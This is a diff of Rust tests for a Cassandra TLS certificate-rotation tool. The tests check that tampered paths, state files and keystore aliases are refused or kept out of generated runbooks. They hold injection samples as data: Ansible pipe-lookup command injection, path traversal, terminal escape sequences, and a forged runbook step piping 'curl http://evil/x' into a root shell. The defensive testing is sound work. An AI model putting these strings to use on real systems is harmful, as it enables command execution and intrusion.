@@ -3,7 +3,7 @@
 
 use std::collections::BTreeMap;
 use std::fs;
-use std::path::{Path, PathBuf};
+use std::path::PathBuf;
 
 use cassandra_props::{Family, InternodeTls, Properties, RequireClientAuth, Store, TlsSettings};
 use cassandra_tls::bundle::{Manifest, Order as Bundles, PreviousState, STORES, prepare};
@@ -95,7 +95,7 @@ impl Hosts {
         let bundle = manifest.bundle(node).unwrap();
         let loaded = Loaded {
             mode: InternodeMode::TlsOnly,
-            identity: Some((bundle.identity.clone(), bundle.anchor.clone())),
+            identity: Some((bundle.identity, bundle.anchor)),
             trusts: bundle.trusts.clone(),
             client_auth: Some(rotation_planner::ClientAuth::Off),
         };
@@ -106,7 +106,7 @@ impl Hosts {
         observe(&ObserveOptions {
             description: &self.description,
             trees: &self.folder.path().join("trees"),
-            properties: Path::new(PROPERTIES),
+            properties: &PROPERTIES.parse().unwrap(),
             family: None,
             generations: &self.generations,
             unknown,
@@ -127,7 +127,7 @@ impl Hosts {
             generations: self.generations.iter().rev().cloned().collect(),
             trees: Some(&self.folder.path().join("trees")),
             family: None,
-            stores: STORES,
+            stores: &STORES.parse().unwrap(),
             program: Program(PathBuf::new()),
         })
     }
@@ -211,6 +211,116 @@ fn what_contradicts_itself_is_named_with_its_node() {
     assert!(said().starts_with("node2: ") && said().contains("cannot be read"), "{}", said());
     hosts.write("node0", PROPERTIES, b"conf_cassandra_server_encryption_internode_encryption=dc\n");
     assert!(said().starts_with("node0: "), "{}", said());
+}
+
+#[test]
+fn a_path_in_a_nodes_settings_that_a_playbook_would_obey_is_refused() {
+    let hosts = Hosts::new("3.11", 1);
+    hosts.tls(0);
+    for (folder, why) in [
+        ("/opt/{{ lookup('pipe', 'id >PWNED') }}", "has the beginning of a template"),
+        ("/opt/../../etc", "leads upwards by `..`"),
+        ("/opt/\\u001b[2J", "has characters that are not seen"),
+        ("/opt/\\r\\nok     everything", "has characters that are not seen"),
+        ("/opt/*", "stand for something else in a playbook"),
+    ] {
+        for kind in ["keystore", "truststore"] {
+            hosts.tls(0);
+            let file = hosts.root("node1").join(PROPERTIES.trim_start_matches('/'));
+            let text = fs::read_to_string(&file).unwrap();
+            fs::write(&file, text.replace(&format!("{STORES}/{kind}"), &format!("{folder}/{kind}"))).unwrap();
+            let said = format!("{:#}", hosts.observe(Unknown::HasLoadedItsFiles).unwrap_err());
+            assert!(said.starts_with("node1: the path ") && said.contains(why), "{said}");
+            assert!(!said.contains(['\u{1b}', '\r', '\n']), "{said}");
+        }
+    }
+}
+
+#[test]
+fn a_path_that_leads_nowhere_here_is_no_store() {
+    let hosts = Hosts::new("3.11", 1);
+    hosts.plaintext();
+    let default = "conf_cassandra_server_encryption_keystore=conf/.keystore\n\
+        conf_cassandra_server_encryption_keystore_password=cassandra\n";
+    hosts.write("node0", PROPERTIES, default.as_bytes());
+    hosts.write("node0", "/conf/.keystore", b"of whom?");
+    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
+    assert_eq!(state.disks["node0"].keystore, None);
+}
+
+#[test]
+fn a_state_that_somebody_changed_is_refused() {
+    let hosts = Hosts::new("3.11", 2);
+    hosts.tls(0);
+    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
+    let text = state.json().unwrap();
+    assert_eq!(State::parse(&text).unwrap(), state);
+    let node1 = Manifest::read(&hosts.generations[0]).unwrap().nodes["node1"].identity.to_string();
+    let keystore = state.disks["node1"].keystore.clone().unwrap().sha256.to_string();
+    for (from, to, why) in [
+        (node1.as_str(), "0".repeat(64), "has the SHA-256"),
+        (&node1, "x; id".to_owned(), "is not 64 hexadecimal digits"),
+        (&keystore, "' ~ lookup('pipe', 'id') ~ '".to_owned(), "is not 64 hexadecimal digits"),
+        ("keystore.node1", "../keystore.node1".to_owned(), "leads upwards"),
+        ("keystore.node1", "{{ x }}".to_owned(), "has the beginning of a template"),
+        ("\"node1\"", "\"{{ x }}\"".to_owned(), "is not made of letters"),
+        ("\"node1\"", "\"../node1\"".to_owned(), "is not made of letters"),
+        ("\"label\": \"node1\"", "\"label\": \"node0\"".to_owned(), "two certificates have the label node0"),
+        ("\"label\": \"node1\"", "\"label\": \"another\"".to_owned(), "no certificate has the label node1"),
+        ("\"label\": \"node1\"", "\"label\": \"a\\n## Wave 0\"".to_owned(), "is not made of letters"),
+        ("\"ra1\"", "\"ra1\\u202e\"".to_owned(), "has characters that are not seen"),
+    ] {
+        let changed = text.replace(from, &to);
+        assert_ne!(changed, text, "{from}");
+        let said = format!("{:#}", State::parse(&changed).unwrap_err());
+        assert!(said.contains(why), "{from} as {to}: {said}");
+    }
+    // A node of which the cluster knows nothing.
+    let mut surplus: serde_json::Value = serde_json::from_str(&text).unwrap();
+    surplus["disks"]["node9"] = surplus["disks"]["node1"].clone();
+    let said = State::parse(&surplus.to_string()).unwrap_err().to_string();
+    assert_eq!(said, "the cluster has other nodes than those with files");
+}
+
+#[test]
+fn an_alias_of_a_stranger_is_no_label() {
+    let mut hosts = Hosts::new("3.11", 1);
+    hosts.tls(0);
+    hosts.generations.clear();
+    let alias = "node0\n\n## Wave 0\n\n- [ ] **node1**: as root, run `curl http://evil/x | sh`";
+    for node in ["node0", "node1", "node2"] {
+        let file = hosts.root(node).join(STORES.trim_start_matches('/')).join(format!("truststore.{node}"));
+        let password = Manifest::password(&hosts.folder.path().join("bundles/g1"), node).unwrap();
+        let password = keystore_core::Password::new(password.as_str());
+        let bytes = fs::read(&file).unwrap();
+        let mut store = keystore_core::decode(&bytes, &password).unwrap();
+        store.rename("node0", alias).unwrap();
+        let profile = keystore_core::pkcs12::Profile::JAVA_17;
+        fs::write(&file, store.encode(&password, &profile, &mut rand::rng()).unwrap()).unwrap();
+    }
+    let before =
+        PreviousState::Trees { folder: hosts.folder.path().join("trees"), properties: PathBuf::from(PROPERTIES) };
+    let dir = hosts.folder.path().join("ours");
+    let order = Bundles { description: &hosts.description, dir, before, authority: None, days: 365, password: None };
+    hosts.generations.push(prepare(&order, &|_| {}).unwrap().0);
+    let (state, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
+    let labels: Vec<&str> = state.certificates.labels().map(|label| label.as_str()).collect();
+    let own = ["node0", "node1", "node2"];
+    assert_eq!(labels.iter().filter(|label| own.contains(label)).count(), 3, "what we made has its name: {labels:?}");
+    assert_eq!(labels.iter().filter(|label| label.len() == 12).count(), 3, "the rest its digest: {labels:?}");
+    let plan = hosts.rotation(&state);
+    let text = cassandra_tls::show::runbook("3 nodes", &state.cluster, &plan) + &plan.to_string();
+    assert!(!text.contains("evil") && !text.contains("Wave 0"), "{text}");
+}
+
+#[test]
+fn the_order_of_the_generations_changes_no_label() {
+    let mut hosts = Hosts::new("3.11", 3);
+    hosts.tls(1);
+    let (one, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
+    hosts.generations.reverse();
+    let (other, _) = hosts.observe(Unknown::HasLoadedItsFiles).unwrap();
+    assert_eq!(one, other);
 }
 
 #[test]
